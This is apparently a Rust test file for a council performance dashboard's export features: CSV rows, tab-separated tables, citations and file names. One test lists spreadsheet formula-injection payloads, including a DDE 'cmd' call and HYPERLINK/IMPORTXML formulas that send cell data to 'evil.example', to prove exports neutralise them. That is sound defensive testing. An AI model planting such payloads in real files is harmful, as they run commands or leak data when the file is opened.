//! What a reader takes away: tables that come back as the figures they were made of, texts that no spreadsheet takes for
//! formulas, citations and names of files.

use crate::given::{EVERYTHING, THREE, dataset, demo, with};
use expect_test::{Expect, expect};
use kpi_core::export::{Details, everything, file_name, sheet, shown};
use kpi_core::ingest::read_data_file;
use kpi_core::model::{Dataset, Decimal, Figure, Indicator, Missing, Origin, SeriesKey, Value};
use kpi_core::query::{Query, Sight, View, fragment};
use kpi_core::view::{AboutModel, IndicatorModel, OverviewModel};
use kpi_core::words::{Lang, citation, period, symbol};
use std::collections::{BTreeMap, BTreeSet};

/// Of the Department for Education's files: groups whose figures are computed.
const YEARS: &str = include_str!("../../../../www/data/isle-of-wight-2013-25.kpi.json");

fn all(dataset: &Dataset, details: Details) -> String {
    let mut text = String::new();
    everything(dataset, Lang::En, details, &mut text).unwrap();
    text
}

fn seen(dataset: &Dataset, query: &Query) -> String {
    let mut text = String::new();
    shown(dataset, query, &mut text).unwrap();
    text
}

fn query(dataset: &Dataset, address: &str) -> Query {
    fragment::read(address, &Query::initial(dataset), dataset).unwrap()
}

/// A publication that alone has England's figures, and the file of the indicator's own that has the others'.
fn apart() -> Dataset {
    let publication = with(
        THREE,
        r#"{ "id": "B", "name": "Beeton" }"#,
        r#"{ "id": "E", "name": "England" }, { "id": "B", "name": "Beeton" }"#,
    );
    let dataset = dataset(&with(
        &publication,
        r#""series": [ { "area": "A", "values": [1, 2] } ]"#,
        r#""data": "one.json", "series": [ { "area": "A", "values": [1, 2] },
          { "area": "E", "values": [8, 9], "previous": { "2021": [ { "value": 7 } ] } } ]"#,
    ));
    let file = r#"{ "kpi": "1.0", "indicator": "one", "series": [
      { "area": "B", "values": [4, 5], "previous": { "2020": [ { "value": 3 } ] } }, { "area": "A", "values": [1, 2] } ] }"#;
    assert_eq!(read_data_file(file.as_bytes(), &dataset, &dataset.indicators[0]), []);
    dataset
}

/// What is shown is in all that there is, whichever of the two files it came in.
#[test]
fn figures_of_either_file_are_taken_away() {
    let dataset = apart();
    let figures = |text: &str| {
        let of = |row: &BTreeMap<String, String>| {
            [&row["area_code"], &row["period"], &row["value"]].map(String::as_str).join(" ")
        };
        rows(text).iter().filter(|row| row["indicator_id"] == "one").map(of).collect::<Vec<_>>()
    };
    let all = figures(&all(&dataset, Details::Inside));
    assert_eq!(all, ["A 2020 1", "A 2021 2", "E 2020 8", "E 2021 9", "B 2020 4", "B 2021 5"]);
    let mut seen = figures(&seen(&dataset, &query(&dataset, "kpi?i=one")));
    seen.retain(|figure| !all.contains(figure));
    assert_eq!(seen, [""; 0]);
    let told = &AboutModel::new(&dataset, &Query::initial(&dataset)).indicators[0].revisions;
    assert_eq!(told.as_slice(), ["2021, England: 7% until revised.", "2020, Beeton: 3% until revised."]);
}

/// Reads CSV by the letter of RFC 4180 and nothing else: what is laxer fails. Each row by its headings.
fn rows(text: &str) -> Vec<BTreeMap<String, String>> {
    let (mut rows, mut row, mut rest) = (Vec::new(), Vec::new(), text);
    while !rest.is_empty() {
        let cell;
        (cell, rest) = match rest.strip_prefix('"') {
            Some(quoted) => {
                let mut cell = String::new();
                let mut behind = quoted;
                loop {
                    let (part, after) = behind.split_once('"').unwrap();
                    cell.push_str(part);
                    behind = after;
                    match behind.strip_prefix('"') {
                        Some(after) => {
                            cell.push('"');
                            behind = after;
                        }
                        None => break,
                    }
                }
                (cell, behind)
            }
            None => {
                let end = rest.find([',', '\r', '\n', '"']).unwrap_or(rest.len());
                (rest[..end].to_owned(), &rest[end..])
            }
        };
        row.push(cell);
        if let Some(after) = rest.strip_prefix("\r\n") {
            rest = after;
            rows.push(std::mem::take(&mut row));
        } else {
            rest = rest.strip_prefix(',').unwrap_or_else(|| panic!("neither comma nor CR LF before {rest:.20?}"));
        }
    }
    assert!(row.is_empty(), "the last row has no end");
    let headings = rows.remove(0);
    for row in &rows {
        assert_eq!(row.len(), headings.len(), "{row:?}");
    }
    rows.into_iter().map(|row| headings.iter().cloned().zip(row).collect()).collect()
}

/// What a row has to say of a figure, column by column, reckoned here from the dataset alone.
fn row_of(
    dataset: &Dataset,
    indicator: &Indicator,
    key: SeriesKey,
    position: usize,
    figure: &Figure<'_>,
) -> BTreeMap<String, String> {
    let (area, measure) = (dataset.area(key.area).unwrap(), &indicator.measures[usize::from(key.measure.0)]);
    let named = &indicator.periods[position];
    let number = |number: Decimal| measure.unit.published(number).to_string();
    let has_target = key.area == dataset.focus() && key.cell == indicator.total_cell();
    let target = measure.target.as_ref().filter(|_| has_target).and_then(|target| target.at(position));
    let (value, symbol, meaning) = match figure.value {
        Value::Number(value) => (number(value), "", ""),
        Value::Missing(Missing::NotPublished) => (String::new(), "", "not published"),
        Value::Missing(missing) => (String::new(), missing.symbol(), symbol::reason(Lang::En, missing)),
    };
    let marks = figure.marks.iter().map(|mark| symbol::mark(Lang::En, mark));
    let meaning: Vec<&str> = [meaning].into_iter().filter(|text| !text.is_empty()).chain(marks).collect();
    let source = indicator.source.as_ref();
    let day = |date: Option<kpi_core::model::Date>| date.map(|date| date.to_string()).unwrap_or_default();
    let mut row: BTreeMap<&str, String> = [
        ("area_code", area.id.clone()),
        ("area_name", area.name.clone()),
        ("period", named.period.to_string()),
        ("period_label", period::named(Lang::En, named)),
        ("topic", dataset.topics[usize::from(indicator.topic.0)].name.clone()),
        ("indicator_id", indicator.id.clone()),
        ("indicator", indicator.name.clone()),
        ("measure_id", measure.id.clone()),
        ("measure", if measure.id.is_empty() { String::new() } else { measure.name.clone() }),
        ("unit", kpi_core::words::number::unit_words(Lang::En, &measure.unit)),
        ("value", value),
        ("symbol", symbol.to_owned()),
        ("lower", figure.limits.map(|limits| number(limits.lower)).unwrap_or_default()),
        ("upper", figure.limits.map(|limits| number(limits.upper)).unwrap_or_default()),
        ("status", figure.marks.iter().map(|mark| mark.letter()).collect()),
        ("remark", figure.remark.unwrap_or_default().to_owned()),
        ("meaning", meaning.join("; ")),
        ("target", target.map(number).unwrap_or_default()),
        ("source", source.map(|source| source.words()).unwrap_or_default()),
        ("source_url", source.and_then(|source| source.url.clone()).unwrap_or_default()),
        ("licence", dataset.licence.clone().unwrap_or_default()),
        ("publication", dataset.title.clone()),
        ("publisher", dataset.publisher.name.clone()),
        ("published", day(dataset.published)),
        ("modified", day(dataset.modified)),
    ]
    .into_iter()
    .collect();
    for dimension in dataset.indicators.iter().flat_map(|indicator| &indicator.dimensions) {
        row.insert(&dimension.id, String::new());
    }
    let mut row: BTreeMap<String, String> = row.into_iter().map(|(name, cell)| (name.to_owned(), cell)).collect();
    for dimension in dataset.indicators.iter().flat_map(|indicator| &indicator.dimensions) {
        row.insert(format!("{}_id", dimension.id), String::new());
    }
    for (dimension, category) in indicator.dimensions.iter().zip(indicator.categories_of(key.cell)) {
        let category = &dimension.categories[usize::from(category.0)];
        row.insert(dimension.id.clone(), category.name.clone());
        row.insert(format!("{}_id", dimension.id), category.id.clone());
    }
    row
}

/// Every published figure is a row, and every row says of it what the dataset says; the method has cases of its own.
#[test]
fn everything_comes_back_cell_by_cell() {
    for text in [crate::given::DEMO, YEARS, EVERYTHING, THREE] {
        let dataset = dataset(text);
        let mut read = rows(&all(&dataset, Details::Inside)).into_iter();
        for indicator in &dataset.indicators {
            for key in indicator.cube.keys() {
                for (position, figure) in indicator.row(*key).unwrap().figures().enumerate() {
                    let mut row = read.next().expect("a row for every figure");
                    row.remove("method").unwrap();
                    assert_eq!(row, row_of(&dataset, indicator, *key, position, &figure));
                }
            }
        }
        assert_eq!(read.next(), None);
    }
}

/// Without what is said beside the file: the same columns in the same order, and no others.
#[test]
fn the_table_with_a_description_beside_it_has_the_same_columns_but_for_the_last_ones() {
    let dataset = dataset(EVERYTHING);
    let head = |details| all(&dataset, details).split("\r\n").next().unwrap().to_owned();
    let (inside, beside) = (head(Details::Inside), head(Details::Beside));
    expect!["area_code,area_name,period,period_label,topic,indicator_id,indicator,measure_id,measure,unit,age,age_id,sex,sex_id,value,symbol,lower,upper,status,remark"].assert_eq(&beside);
    expect![",meaning,target,method,source,source_url,licence,publication,publisher,published,modified"]
        .assert_eq(inside.strip_prefix(&beside).unwrap());
    let rows = (rows(&all(&dataset, Details::Inside)), rows(&all(&dataset, Details::Beside)));
    for (inside, beside) in rows.0.iter().zip(&rows.1) {
        assert!(beside.iter().all(|(heading, cell)| inside.get(heading) == Some(cell)));
    }
}

/// What spreadsheets run, where nobody stops them: OWASP's, and those of reports about programs that forgot one.
const FORMULAS: [&str; 14] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A2),\"//a\")",
    "+1+1",
    "+44 1983 821000",
    "-1+1",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "=1+1\";=1+1",
];

/// Texts that look dangerous, or would if somebody had been careless, and are not.
const HARMLESS: [&str; 8] =
    ["A, B and \"C\"", "a;=1+1", "'quoted'", " =1+1", "\u{2212}5", "5", "two\r\nlines", "Ünïcödé, £ – “”"];

/// A publication with a text in every place that has one.
fn with_text(text: &str) -> Dataset {
    let json = serde_json::to_string(text).unwrap();
    let file = format!(
        r#"{{ "kpi": "1.0", "title": {json}, "publisher": {{ "name": {json} }}, "licence": {json},
            "areas": [ {{ "id": {json}, "name": {json}, "role": "focus" }},
                       {{ "id": "SN", "name": "Neighbours", "method": "published", "model": {json} }} ],
            "topics": [ {{ "id": "t", "name": {json} }} ],
            "indicators": [ {{ "id": {json}, "name": {json}, "topic": "t", "source": {{ "name": {json}, "at": {json} }},
                "measures": [ {{ "id": {json}, "name": {json}, "unit": {{ "kind": "other", "label": {json} }} }} ],
                "dimensions": [ {{ "id": {json}, "name": {json}, "categories": [ {{ "id": {json}, "name": {json} }} ] }} ],
                "periods": [ {{ "id": "2020", "label": {json} }} ],
                "series": [ {{ "area": {json}, "measure": {json}, "at": {{ {json}: {json} }}, "values": {{ "2020": -5 }},
                              "remarks": {{ "2020": {json} }} }},
                            {{ "area": "SN", "measure": {json}, "at": {{ {json}: {json} }}, "values": {{ "2020": -0.50 }} }} ] }} ] }}"#
    );
    dataset(&file)
}

/// With what a formula begins.
const BEGINNINGS: [char; 8] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝'];

const NUMBERS: [&str; 4] = ["value", "lower", "upper", "target"];

#[test]
fn no_text_is_a_formula_and_every_number_is_a_number() {
    for text in FORMULAS.into_iter().chain(HARMLESS) {
        let dataset = with_text(text);
        let is_formula = FORMULAS.contains(&text);
        let expect = if is_formula { format!("'{text}") } else { text.to_owned() };
        let mut met = 0;
        for row in rows(&all(&dataset, Details::Inside)) {
            assert!(["-5", "-0.50"].contains(&row["value"].as_str()), "{row:?}");
            for (heading, cell) in &row {
                for text in [heading, cell] {
                    let is_number = NUMBERS.contains(&heading.as_str());
                    assert!(is_number || !text.starts_with(BEGINNINGS), "{heading}: {text:?}");
                }
                met += usize::from(*cell == expect);
            }
        }
        assert!(met >= 20, "{text:?} stands in {met} places");
        let sheet = sheet(&dataset, &query(&dataset, &format!("kpi?i={}", escaped(text))));
        for line in sheet.text().split("\r\n") {
            for cell in line.split('\t') {
                let is_number = cell.strip_prefix('-').is_some_and(|digits| digits.parse::<f64>().is_ok());
                assert!(is_number || !cell.starts_with(BEGINNINGS), "{cell:?}");
            }
        }
        assert!(sheet.text().contains("\t-0.50\r\n"), "{}", sheet.text());
    }
}

fn escaped(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// What stands in the file for a text.
#[test]
fn quotation_marks_stand_where_they_are_needed() {
    let cases = [
        ("Ayton", "Ayton"),
        ("Ayton, Beeton", "\"Ayton, Beeton\""),
        ("“Ayton”", "“Ayton”"),
        ("\"Ayton\"", "\"\"\"Ayton\"\"\""),
        ("Ayton\nBeeton", "\"Ayton\nBeeton\""),
        ("Ayton\r\nBeeton", "\"Ayton\r\nBeeton\""),
        ("=Ayton", "'=Ayton"),
        ("=Ayton, \"B\"", "\"'=Ayton, \"\"B\"\"\""),
        ("\tAyton", "'\tAyton"),
        ("\rAyton", "\"'\rAyton\""),
        ("A-yton", "A-yton"),
        (" Ayton ", " Ayton "),
    ];
    for (text, expect) in cases {
        let json = format!("\"name\": {}", serde_json::to_string(text).unwrap());
        let file = with(THREE, "\"name\": \"Ayton\"", &json);
        let written = all(&dataset(&file), Details::Beside);
        assert!(written.contains(&format!("\r\nA,{expect},")), "{text:?}\n{written}");
    }
}

/// How a number is written: value as published, value in the file.
#[test]
fn numbers_stay_as_they_are_published() {
    let cases = [
        ("70", "{ \"kind\": \"percent\" }", "70"),
        ("70.0", "{ \"kind\": \"percent\" }", "70.0"),
        ("-5", "{ \"kind\": \"percent\" }", "-5"),
        ("-0.5", "{ \"kind\": \"count\" }", "-0.5"),
        ("0", "{ \"kind\": \"count\" }", "0"),
        ("1234567.25", "{ \"kind\": \"gbp\" }", "1234567.25"),
        ("78.46", "{ \"kind\": \"rate\", \"per\": 10000, \"decimals\": 1 }", "78.5"),
        ("78", "{ \"kind\": \"rate\", \"per\": 10000, \"decimals\": 1 }", "78.0"),
        ("1e3", "{ \"kind\": \"count\" }", "1000"),
    ];
    for (value, unit, expect) in cases {
        let file = with(THREE, "{ \"kind\": \"percent\" }", unit);
        let file = with(&file, "[1, 2]", &format!("[{value}, 2]"));
        assert_eq!(rows(&all(&dataset(&file), Details::Inside))[0]["value"], expect);
    }
}

/// Which figure a row is of.
fn identity(row: &BTreeMap<String, String>) -> Vec<String> {
    let keys = row
        .iter()
        .filter(|(heading, _)| heading.ends_with("_id") || ["area_code", "period"].contains(&heading.as_str()));
    keys.map(|(_, cell)| cell.clone()).collect()
}

/// The rows of what is shown are the figures of the tables on the page, in their order and each once, and say what the
/// tables say.
fn check_shown(dataset: &Dataset, query: &Query) -> usize {
    let View::Indicator { indicator: ix, measure, .. } = query.view else { panic!() };
    let (model, indicator) =
        (IndicatorModel::new(dataset, query, ix, measure).unwrap(), dataset.indicator(ix).unwrap());
    let text = seen(dataset, query);
    let mut read = rows(&text).into_iter();
    let mut met = Vec::new();
    for cell in model.tables.iter().flat_map(|table| &table.rows).flat_map(|row| &row.cells) {
        let Some((key, position)) = cell.figure else { continue };
        if met.contains(&(key, position)) {
            continue;
        }
        met.push((key, position));
        let mut row = read.next().unwrap_or_else(|| panic!("no row for {cell:?} in\n{text}"));
        let SeriesKey { area, measure, cell: at } = key;
        let sight = Sight { dataset, query, indicator, area, measure, cell: at, position };
        let figure = sight.figure().unwrap_or(Figure::NOT_PUBLISHED);
        let method = row.remove("method").unwrap();
        if let Origin::Computed { contributing, members, .. } = figure.origin {
            assert!(method.contains(&format!(", {contributing} of {members} members")), "{method}");
        }
        assert_eq!(row, row_of(dataset, indicator, key, position, &figure));
        // As a reader of the page sees it.
        let plain: String = cell.text.chars().filter(|letter| !",%£\u{2060}".contains(*letter)).collect();
        let plain = plain.replace('\u{2212}', "-");
        let words: Vec<&str> = plain.split(' ').collect();
        let said = [&row["value"], &row["symbol"]].into_iter().find(|text| !text.is_empty());
        assert!(said.map_or(plain == "–", |said| words.contains(&said.as_str())), "{cell:?} {row:?}");
    }
    assert_eq!(read.next(), None, "a row that no table has");
    met.len()
}

#[test]
fn what_is_shown_is_what_the_tables_have() {
    let mut figures = 0;
    for text in [crate::given::DEMO, YEARS, EVERYTHING, THREE] {
        let dataset = dataset(text);
        for compare in ["", "&c=", "&m=SN:mean"] {
            for (ix, indicator) in dataset.indexed_indicators() {
                for measure in &indicator.measures {
                    let address = format!("kpi?i={}&s={}{compare}", indicator.id, measure.id);
                    let query = query(&dataset, &address);
                    assert!(matches!(query.view, View::Indicator { indicator, .. } if indicator == ix));
                    figures += check_shown(&dataset, &query);
                }
            }
        }
    }
    assert!(figures > 2_000, "{figures}");
}

/// Of the overview: each listed indicator's figure, what it is compared with, and nothing else.
#[test]
fn the_overview_is_taken_away_with_what_it_compares() {
    let dataset = demo();
    for address in ["kpi?v=overview", "kpi?p=2020-07-01/P3M", "kpi?c=previous,year-before,E92000001"] {
        let query = query(&dataset, address);
        let read = rows(&seen(&dataset, &query));
        let model = OverviewModel::new(&dataset, &query);
        let listed: Vec<_> = model.sections.iter().flat_map(|section| &section.rows).collect();
        for row in &listed {
            let of: Vec<_> = read.iter().filter(|read| read["indicator"] == row.name).collect();
            // Of a year the period before is the one a year before.
            let earlier: BTreeSet<&str> = row.changes.iter().flatten().map(|change| change.since.as_str()).collect();
            let shows = row.value != kpi_core::view::ValueModel::None("no figure for this period".to_owned());
            assert!(of.len() >= usize::from(shows) * (1 + earlier.len() + row.against.len()), "{address} {}", row.name);
        }
        let mut met: Vec<_> = read.iter().map(identity).collect();
        met.sort();
        let count = met.len();
        met.dedup();
        assert_eq!(met.len(), count, "a figure twice");
    }
}

/// How the figure of a group came about: which group, of which file, and what the row says.
#[test]
fn a_group_says_its_method() {
    let cases: &[(&str, &str, &str)] = &[
        (crate::given::DEMO, "kpi?i=children-looked-after", "as published"),
        (EVERYTHING, "kpi?i=symbols", "median; Ayton's ten, 2020"),
        (EVERYTHING, "kpi?i=symbols&m=SN:mean", "mean, 1 of 2 members; Ayton's ten, 2020"),
        (
            YEARS,
            "kpi?i=cla-rate",
            "median, 10 of 10 members; Department for Education, statistical neighbour groupings of April 2021",
        ),
    ];
    for (file, address, expect) in cases {
        let dataset = dataset(file);
        let read = rows(&seen(&dataset, &query(&dataset, address)));
        let group: Vec<_> =
            read.iter().filter(|row| row["area_code"] == "SN").map(|row| row["method"].as_str()).collect();
        assert!(group.contains(expect), "{address}: {group:?}");
        assert!(read.iter().all(|row| (row["area_code"] == "SN") != row["method"].is_empty()));
    }
}

/// A table for a spreadsheet: what is shown, and the cells with tabs between them.
#[test]
fn a_table_is_copied_as_it_looks() {
    let check = |dataset: &Dataset, address: &str, expect: Expect| {
        let sheet = sheet(dataset, &query(dataset, address));
        let text = sheet.text();
        expect.assert_eq(&text.replace("\r\n", "\n"));
        let cells = sheet.html().replace("<table>", "").replace("</table>", "").replace("<tr>", "");
        let cells =
            cells.replace("<td>", "").replace("</td></tr>", "\r\n").replace("</td>", "\t").replace("</tr>", "\r\n");
        assert_eq!(cells.replace("&lt;", "<").replace("&amp;", "&"), text);
    };
    let demo = demo();
    check(
        &demo,
        "kpi?i=icpc-in-time",
        expect![[r#"
            Initial child protection conferences within timescales: per cent
            Period	Isle of Wight	Change since the period before	Statistical neighbours	South East	England
            Q1 2020/21	91%	no earlier figure	–	–	–
            Q2 2020/21	90%	↓ down 1 point	–	–	–
            Q3 2020/21	79%	↓ down 11 points	–	–	–
            Q4 2020/21	70%	↓ down 9 points	–	–	–
            –: not published
            Figures: Isle of Wight Council, “Children's Social Care Performance Quarter Three and Four 2020/2021” (slides), slide “Performance- timely response”
            Isle of Wight Council: Children's social care performance, quarters 3 and 4 2020/21
        "#]],
    );
    check(
        &demo,
        "kpi?i=outturn&s=variance&c=",
        expect![[r#"
        Budget and outturn by service area, 2020/21
        Service area	Budget, £ thousand	Forecast, £ thousand	Variance, £ thousand	Variance, %
        Access, Resources & Business Development	4,351	3,977	-374	-8.6%
        Strategic Development	245	189	-56	-22.9%
        Education & Inclusion	1,808	1,658	-150	-8.3%
        Children & Families	21,218	21,195	-23	-0.1%
        Children's Services (non-schools)	27,622	27,018	-603	-2.2%
        Figures: Isle of Wight Council, “Children's Social Care Performance Quarter Three and Four 2020/2021” (slides), slide “Finance – Quarter 4 20/21 Outturn Position”, table
        Isle of Wight Council: Children's social care performance, quarters 3 and 4 2020/21
    "#]],
    );
    let everything = dataset(EVERYTHING);
    check(
        &everything,
        "kpi?i=symbols",
        expect![[r#"
            Symbols and marks: per cent
            Period	Ayton		Target	Change since the period before	Statistical neighbours (median)	England	
            Q1 2020/21	c		70%	cannot be compared	low	10%	[u]
            Summer	71%	[b] 66 to 76	none	not comparable with earlier figures	low	0.15%	[e]
            Q3 2020/21	about 69.5%	[r] 64 to 75	none	cannot be compared	u	-0.5%	[f]
            Q4 2020/21	70.0%	[p] [d] 65.5 to 74.5	75%	cannot be compared	z	–	
            –: not published
            c: confidential
            z: not applicable
            low: rounds to zero
            u: too unreliable to publish
            [p]: provisional
            [r]: revised
            [e]: estimated
            [f]: forecast
            [b]: not comparable with earlier figures
            [u]: low reliability
            [d]: derived, not published
            … to …: confidence limits: the true figure probably lies between them
            Figures: Source, page 7
            Ayton Council: Everything
            Open Government Licence v3.0
        "#]],
    );
    check(
        &everything,
        "kpi?v=overview",
        expect![[r#"
            Q4 2020/21
            			Period	Change since the period before	Statistical neighbours (median)		England	
            Symbols and marks	70.0%	provisional, derived, not published		cannot be compared	not applicable		not published	
            Money	over £1.1905	million, outturn forecast	2020/21	cannot be compared	not enough published figures			
            Days	1	day	No date given					
            Score	3	points	2020					
            Ratio	16.900000000		February to April 2020					
            Visits	1,234,567	visits	academic year 2020/21					
            Count	0		December 2020					
            Children by age and sex	60.0	per 10,000, Girls	31 March 2021	no change since 31 March 2020, the same			60.0	the same
            Ayton Council: Everything
            Open Government Licence v3.0
        "#]],
    );
    let markup = dataset(&with(EVERYTHING, "\"name\": \"Ayton\"", "\"name\": \"<b>A & B</b>\""));
    let html = sheet(&markup, &query(&markup, "kpi?i=count")).html();
    assert!(html.contains("<td>&lt;b>A &amp; B&lt;/b></td>"), "{html}");
}

/// What is shown, under which address, and how it is cited.
#[test]
fn citations() {
    let check = |dataset: &Dataset, view: &str, address: Option<&str>, expect: Expect| {
        expect.assert_eq(&citation(dataset, &query(dataset, view), address));
    };
    let (demo, everything) = (demo(), dataset(EVERYTHING));
    let here = Some("https://www.example.gov.uk/kpi#kpi?i=x");
    check(
        &demo,
        "kpi?i=icpc-in-time",
        here,
        expect![
            "Isle of Wight Council: Children's social care performance, quarters 3 and 4 2020/21. Initial child protection conferences within timescales, Q4 2020/21. Figures: Isle of Wight Council, “Children's Social Care Performance Quarter Three and Four 2020/2021” (slides). https://www.example.gov.uk/kpi#kpi?i=x"
        ],
    );
    check(
        &demo,
        "kpi?i=icpc-in-time&p=2020-07-01/P3M",
        None,
        expect![
            "Isle of Wight Council: Children's social care performance, quarters 3 and 4 2020/21. Initial child protection conferences within timescales, Q2 2020/21. Figures: Isle of Wight Council, “Children's Social Care Performance Quarter Three and Four 2020/2021” (slides). https://www.iwight.com"
        ],
    );
    check(
        &demo,
        "kpi?i=young-population",
        None,
        expect![
            "Isle of Wight Council: Children's social care performance, quarters 3 and 4 2020/21. Children and young people aged 0 to 19, no date given. Figures: Public Health England, Child Health Profile 2021. https://www.iwight.com"
        ],
    );
    check(
        &demo,
        "kpi?v=overview",
        None,
        expect![
            "Isle of Wight Council: Children's social care performance, quarters 3 and 4 2020/21. Q4 2020/21. https://www.iwight.com"
        ],
    );
    check(
        &everything,
        "kpi?i=symbols",
        here,
        expect![
            "Ayton Council: Everything. Symbols and marks, Q4 2020/21. Published on 10 February 2021. Last changed on 1 March 2021. Figures: Source. https://www.example.gov.uk/kpi#kpi?i=x"
        ],
    );
    check(
        &everything,
        "kpi?i=days",
        here,
        expect![
            "Ayton Council: Everything. Days, no date given. Published on 10 February 2021. Last changed on 1 March 2021. https://www.example.gov.uk/kpi#kpi?i=x"
        ],
    );
    check(
        &everything,
        "kpi?v=about",
        here,
        expect![
            "Ayton Council: Everything. Published on 10 February 2021. Last changed on 1 March 2021. https://www.example.gov.uk/kpi#kpi?i=x"
        ],
    );
    let plain = dataset(THREE);
    check(&plain, "kpi?v=about", None, expect!["Ayton Council: Three."]);
}

/// What is shown, and what the file is called.
#[test]
fn names_of_files() {
    let check = |dataset: &Dataset, view: &str, expect: &str| {
        assert_eq!(file_name(dataset, &query(dataset, view), "csv"), expect, "{view}");
    };
    let (demo, everything) = (demo(), dataset(EVERYTHING));
    check(&demo, "kpi?i=icpc-in-time", "icpc-in-time-q4-2020-21.csv");
    check(&demo, "kpi?i=icpc-in-time&p=2020-07-01/P3M", "icpc-in-time-q2-2020-21.csv");
    check(&demo, "kpi?i=young-population", "young-population-no-date-given.csv");
    check(&demo, "kpi?i=audit-smart-plan", "audit-smart-plan-2020.csv");
    check(&demo, "", "childrens-social-care-performance-quarters-3-and-4-2020-21-q4-2020-21.csv");
    check(&demo, "kpi?v=about", "childrens-social-care-performance-quarters-3-and-4-2020-21.csv");
    check(&everything, "kpi?i=ages", "ages-31-march-2021.csv");
    let letters = dataset(&with(THREE, "\"title\": \"Three\"", "\"title\": \"Ŵyth – ¿?\""));
    check(&letters, "kpi?v=about", "yth.csv");
    let none = dataset(&with(THREE, "\"title\": \"Three\"", "\"title\": \"¿?\""));
    check(&none, "kpi?v=about", "figures.csv");
    let long = dataset(&with(THREE, "\"title\": \"Three\"", &format!("\"title\": \"{}\"", "long ".repeat(50))));
    assert!(file_name(&long, &query(&long, "kpi?v=about"), "svg").len() < 90);
}
